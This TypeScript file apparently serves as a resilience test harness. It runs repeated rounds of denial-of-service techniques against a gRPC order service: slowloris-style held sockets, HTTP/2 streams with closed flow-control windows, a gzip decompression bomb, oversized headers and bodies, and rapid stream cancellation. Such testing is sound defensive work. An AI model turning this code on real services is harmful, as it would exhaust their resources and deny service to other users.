// A program that attacks a service until it is ended. Its argument is the target as JSON. It runs in its own process
// and at a low priority, so that its work does not delay the measurements. Each kind of attack runs in rounds. No
// attack may end the service, or prevent it from serving other clients.
import { once } from 'node:events';
import { existsSync, writeFileSync } from 'node:fs';
import http2 from 'node:http2';
import { connect, type Socket } from 'node:net';
import os from 'node:os';
import { setTimeout } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { create, toBinary } from '@bufbuild/protobuf';
import { ChatMessageSchema, ListOrdersRequestSchema } from '@example/protos/order/v1';
import { customerId, type Target } from './target.ts';

os.setPriority(os.constants.priority.PRIORITY_LOW);
// Linux compares the priorities of processes only within a session, and shares the cores evenly between sessions. This
// file has the priority of the session: sched(7).
const sessionPriority = '/proc/self/autogroup';
if (existsSync(sessionPriority)) writeFileSync(sessionPriority, `${os.constants.priority.PRIORITY_LOW}`);

const { url, authorization, orderId } = JSON.parse(process.argv[2] as string) as Target;
const { hostname, port } = new URL(url);

/** The time that a round holds its streams and connections, in milliseconds. */
const heldMs = 2_000;
const pauseMs = 200;
const maxMessageBytes = 4 * 1024 * 1024;
const healthCheck = '/grpc.health.v1.Health/Check';
const listOrders = '/order.v1.OrderService/ListOrders';
const orderChat = '/order.v1.OrderService/OrderChat';

function envelope(message: Uint8Array, flags = 0): Buffer {
  const header = Buffer.from([flags, 0, 0, 0, 0]);
  header.writeUInt32BE(message.length, 1);
  return Buffer.concat([header, message]);
}

const join = envelope(toBinary(ChatMessageSchema, create(ChatMessageSchema, { orderId, sender: 's' })));
const list = envelope(toBinary(ListOrdersRequestSchema, create(ListOrdersRequestSchema, { customerId })));
/** Two million unknown fields, compressed to four kilobytes. */
const elements = envelope(gzipSync(Buffer.alloc(maxMessageBytes - 10, Buffer.from([0x78, 0]))), 1);

async function openSockets(count: number, bytes: Uint8Array): Promise<Socket[]> {
  const sockets = Array.from({ length: count }, () => connect({ host: hostname, port: Number(port) }));
  for (const socket of sockets) socket.on('error', () => {}).write(bytes);
  await setTimeout(heldMs);
  return sockets;
}

async function holdSockets(count: number, bytes: Uint8Array): Promise<void> {
  for (const socket of await openSockets(count, bytes)) socket.destroy();
}

interface Streams {
  readonly count: number;
  readonly fields: http2.OutgoingHttpHeaders;
  readonly body?: Uint8Array;
  /** Whether the client keeps the windows closed. */
  readonly isUnread?: boolean;
  readonly onStream?: (stream: http2.ClientHttp2Stream) => void;
}

/** Opens streams on one connection, and closes the connection after `heldMs`. */
async function holdStreams({ count, fields, body = Buffer.alloc(0), isUnread, onStream }: Streams): Promise<void> {
  const session = http2.connect(url, {
    settings: isUnread ? { initialWindowSize: 0 } : {},
    maxSendHeaderBlockLength: 1e6,
  });
  session.on('error', () => {});
  await Promise.race([once(session, 'connect'), setTimeout(heldMs)]).catch(() => {});
  for (let i = 0; i < count && !session.destroyed; i++) {
    const stream = session.request({ ':method': 'POST', 'content-type': 'application/grpc', ...fields });
    stream.on('error', () => {}).write(body);
    if (!isUnread) stream.resume();
    onStream?.(stream);
  }
  await setTimeout(heldMs);
  session.destroy();
}

const head = (path: string, fields: string) =>
  Buffer.from(`POST ${path} HTTP/1.1\r\nhost: a\r\nauthorization: ${authorization}\r\n${fields}\r\n\r\n`);

const unfinished = Buffer.concat([
  head(healthCheck, `content-type: application/proto\r\ncontent-length: ${maxMessageBytes}`),
  Buffer.alloc(maxMessageBytes - 1),
]);
const unread = Buffer.concat([
  head(
    listOrders,
    `connect-timeout-ms: 600000\r\ncontent-type: application/grpc-web\r\ncontent-length: ${list.length}`,
  ),
  list,
]);

const kinds: readonly (() => Promise<void>)[] = [
  () => holdSockets(20, unfinished),
  () => holdSockets(50, Buffer.from('POST')),
  async () => {
    for (const socket of await openSockets(40, unread)) socket.pause().destroy();
  },
  () => holdStreams({ count: 200, fields: { ':path': orderChat, authorization }, body: join, isUnread: true }),
  () => holdStreams({ count: 200, fields: { ':path': listOrders, authorization }, body: list, isUnread: true }),
  () => holdStreams({ count: 50, fields: { ':path': healthCheck }, body: Buffer.alloc(200_000) }),
  ...[healthCheck, listOrders].map(
    (path) => () =>
      holdStreams({
        count: 20,
        fields: { ':path': path, authorization, 'grpc-encoding': 'gzip' },
        body: elements,
        onStream: (stream) => stream.end(),
      }),
  ),
  () => holdStreams({ count: 100, fields: { ':path': listOrders, authorization: `${authorization}x` }, body: list }),
  () => holdStreams({ count: 20, fields: { ':path': listOrders, authorization, 'x-large': 'x'.repeat(56_000) } }),
  () =>
    holdStreams({
      count: 200,
      fields: { ':path': listOrders, authorization },
      onStream: (stream) => stream.close(http2.constants.NGHTTP2_CANCEL),
    }),
];

async function repeat(round: () => Promise<void>): Promise<never> {
  while (true) {
    await round();
    await setTimeout(pauseMs);
  }
}

await Promise.all(kinds.map(repeat));
